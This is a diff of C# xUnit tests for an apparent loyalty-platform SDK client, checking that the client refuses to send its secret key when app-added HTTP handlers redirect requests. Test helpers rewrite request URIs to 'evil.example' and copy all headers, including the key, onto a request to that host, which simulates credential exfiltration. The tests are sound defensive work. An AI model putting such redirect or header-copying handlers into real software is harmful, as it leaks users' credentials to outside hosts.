@@ -1,5 +1,6 @@
 using Microsoft.Extensions.Configuration;
 using Microsoft.Extensions.DependencyInjection;
+using Microsoft.Extensions.Http;
 using Vinr.Sdk.Loyalty;
 using Vinr.Sdk.Tests.Support;
 using Xunit;
@@ -9,6 +10,8 @@ namespace Vinr.Sdk.Tests.Client;
 /// <summary>In an app, whose handlers come between the client and its sockets: the key goes where the options say.</summary>
 public sealed class DoorTests
 {
+    private static readonly Uri Gateway = new("https://gateway.example.com/v1");
+
     [Theory]
     [InlineData("https://evil.example/v1/programs/prog_1")]
     [InlineData("http://gateway.example.com/v1/programs/prog_1")]
@@ -30,6 +33,82 @@ public sealed class DoorTests
         }
 
         Assert.Empty(recorder.Targets);
+    }
+
+    [Fact]
+    public async Task A_handler_that_the_app_adds_behind_all_others_is_held_back_too()
+    {
+        var recorder = new TargetRecorder();
+        var services = new ServiceCollection();
+        services.AddSingleton<IHttpMessageHandlerBuilderFilter>(new Behind(() => new Handler(GoElsewhere)));
+        services.AddVinr(options => (options.SecretKey, options.BaseAddress) = (Clients.Key, Gateway)).ConfigurePrimaryHttpMessageHandler(() => recorder);
+        services.AddSingleton<IHttpMessageHandlerBuilderFilter>(new Behind(() => new Handler(GoElsewhere)));
+        await using var provider = services.BuildServiceProvider();
+
+        await Assert.ThrowsAsync<VinrConnectionException>(() => Retrieve(provider.GetRequiredService<VinrClient>()));
+
+        Assert.Empty(recorder.Targets);
+    }
+
+    [Fact]
+    public async Task So_is_one_in_a_chain_of_the_callers_whoever_builds_the_client()
+    {
+        var recorder = new TargetRecorder();
+        using var mine = new VinrClient(new VinrClientOptions { SecretKey = Clients.Key, BaseAddress = Gateway, HttpHandler = Chain(recorder) });
+        await using var option = Services(services => services.AddVinr(options => (options.SecretKey, options.BaseAddress, options.HttpHandler) = (Clients.Key, Gateway, Chain(recorder))));
+        await using var primary = Services(services => services.AddVinr(options => (options.SecretKey, options.BaseAddress) = (Clients.Key, Gateway)).ConfigurePrimaryHttpMessageHandler(() => Chain(recorder)));
+
+        foreach (var vinr in new[] { mine, option.GetRequiredService<VinrClient>(), primary.GetRequiredService<VinrClient>() })
+        {
+            await Assert.ThrowsAsync<VinrConnectionException>(() => Retrieve(vinr));
+        }
+
+        Assert.Empty(recorder.Targets);
+    }
+
+    [Fact]
+    public async Task Clients_that_share_a_chain_each_go_where_their_options_say_and_others_where_they_like()
+    {
+        var recorder = new TargetRecorder();
+        using var chain = new Handler(static _ => { }) { InnerHandler = new Handler(static _ => { }) { InnerHandler = recorder } };
+        using var one = new VinrClient(new VinrClientOptions { SecretKey = Clients.Key, BaseAddress = Gateway, HttpHandler = chain });
+        using var two = new VinrClient(new VinrClientOptions { SecretKey = Clients.Key, BaseAddress = new Uri("https://eu.example/v1"), HttpHandler = chain, Authentication = VinrAuthentication.Bearer });
+        using var stranger = new HttpClient(chain, disposeHandler: false);
+        stranger.DefaultRequestHeaders.Add("X-Api-Key", "another service's");
+
+        foreach (var vinr in new[] { one, two, one }) await Retrieve(vinr);
+        await stranger.GetAsync(new Uri("https://elsewhere.example/"));
+        using var late = new VinrClient(new VinrClientOptions { SecretKey = Clients.Key, BaseAddress = Gateway, HttpHandler = chain });
+        await Retrieve(late);
+
+        Assert.Equal(["gateway.example.com", "eu.example", "gateway.example.com", "elsewhere.example", "gateway.example.com"], recorder.Targets.Select(target => target.Address.Host));
+        Assert.Same(recorder, ((DelegatingHandler)((DelegatingHandler)((DelegatingHandler)chain.InnerHandler).InnerHandler!)).InnerHandler);
+    }
+
+    [Fact]
+    public async Task A_request_that_a_handler_made_from_ours_is_known_by_the_key()
+    {
+        var recorder = new TargetRecorder();
+        await using var provider = App(recorder, new Copying());
+
+        await Assert.ThrowsAsync<VinrConnectionException>(() => Retrieve(provider.GetRequiredService<VinrClient>()));
+
+        Assert.Empty(recorder.Targets);
+    }
+
+    [Fact]
+    public async Task A_chain_that_has_been_in_use_serves_on()
+    {
+        var recorder = new TargetRecorder();
+        using var chain = new Handler(static _ => { }) { InnerHandler = recorder };
+        using var stranger = new HttpClient(chain, disposeHandler: false);
+        await stranger.GetAsync(new Uri("https://elsewhere.example/"));
+        using var vinr = new VinrClient(new VinrClientOptions { SecretKey = Clients.Key, BaseAddress = Gateway, HttpHandler = chain });
+
+        await Retrieve(vinr);
+
+        Assert.Same(recorder, chain.InnerHandler);
+        Assert.Equal("gateway.example.com", recorder.Targets[^1].Address.Host);
     }
 
     [Fact]
@@ -104,13 +183,39 @@ public sealed class DoorTests
 
     private static Task<LoyaltyProgram> Retrieve(VinrClient vinr) => vinr.Loyalty.Programs.RetrieveAsync("prog_1");
 
-    private static ServiceProvider App(HttpMessageHandler bottom, DelegatingHandler between)
+    private static ServiceProvider App(HttpMessageHandler bottom, DelegatingHandler between) => Services(services => services
+        .AddVinr(options => (options.SecretKey, options.BaseAddress) = (Clients.Key, Gateway))
+        .ConfigurePrimaryHttpMessageHandler(() => bottom)
+        .AddHttpMessageHandler(() => between));
+
+    private static ServiceProvider Services(Action<IServiceCollection> add)
     {
         var services = new ServiceCollection();
-        services.AddVinr(options => (options.SecretKey, options.BaseAddress) = (Clients.Key, new Uri("https://gateway.example.com/v1")))
-            .ConfigurePrimaryHttpMessageHandler(() => bottom)
-            .AddHttpMessageHandler(() => between);
+        add(services);
         return services.BuildServiceProvider();
+    }
+
+    private static Handler Chain(HttpMessageHandler bottom) => new(static _ => { }) { InnerHandler = new Handler(GoElsewhere) { InnerHandler = bottom } };
+
+    private static void GoElsewhere(HttpRequestMessage request) => request.RequestUri = new Uri("https://evil.example/v1/programs");
+
+    private sealed class Behind(Func<DelegatingHandler> make) : IHttpMessageHandlerBuilderFilter
+    {
+        public Action<HttpMessageHandlerBuilder> Configure(Action<HttpMessageHandlerBuilder> next) => builder =>
+        {
+            next(builder);
+            builder.AdditionalHandlers.Add(make());
+        };
+    }
+
+    private sealed class Copying : DelegatingHandler
+    {
+        protected override async Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken)
+        {
+            using var copy = new HttpRequestMessage(request.Method, new Uri("https://evil.example/v1/programs"));
+            foreach (var (name, values) in request.Headers) copy.Headers.TryAddWithoutValidation(name, values);
+            return await base.SendAsync(copy, cancellationToken);
+        }
     }
 
     private sealed class Handler(Action<HttpRequestMessage> change) : DelegatingHandler
